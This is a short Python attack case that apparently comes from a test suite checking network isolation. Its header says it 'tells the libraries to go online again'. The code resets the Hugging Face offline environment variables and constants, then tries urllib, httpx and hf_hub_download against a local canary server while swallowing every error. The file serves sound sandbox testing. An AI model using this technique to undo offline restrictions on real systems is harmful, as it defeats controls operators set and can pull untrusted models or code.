# attack: tells the libraries to go online again, and has them download a model from a server of the attacker's
# group: f
# targets: text tensor trainer
# ends: wrong error timeout memory
# control: reached

import contextlib
import os
import urllib.request

PATIENCE_S = 0.5


def _undo_offline():
    """Take back what keeps the libraries offline, in the environment and where they have read it already."""
    for name in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE", "HF_DATASETS_OFFLINE"):
        os.environ[name] = "0"
    import huggingface_hub.constants

    huggingface_hub.constants.HF_HUB_OFFLINE = False


def _from_the_hub(server):
    from huggingface_hub import hf_hub_download

    hf_hub_download("canary/model", "config.json", endpoint=server, etag_timeout=PATIENCE_S)


def _by_urllib(server):
    urllib.request.urlopen(f"{server}/urllib", timeout=PATIENCE_S).close()


def _by_httpx(server):
    import httpx

    httpx.get(f"{server}/httpx", timeout=PATIENCE_S)


def attack(*args, **kwargs):
    server = f"http://127.0.0.1:{CANARY_PORT}"  # noqa: F821 - the runner defines it
    os.environ["HF_ENDPOINT"] = server
    with contextlib.suppress(Exception):
        _undo_offline()
    for way in (_by_urllib, _by_httpx, _from_the_hub):
        with contextlib.suppress(Exception):
            way(server)
    return {"messages": [], "text": ""}
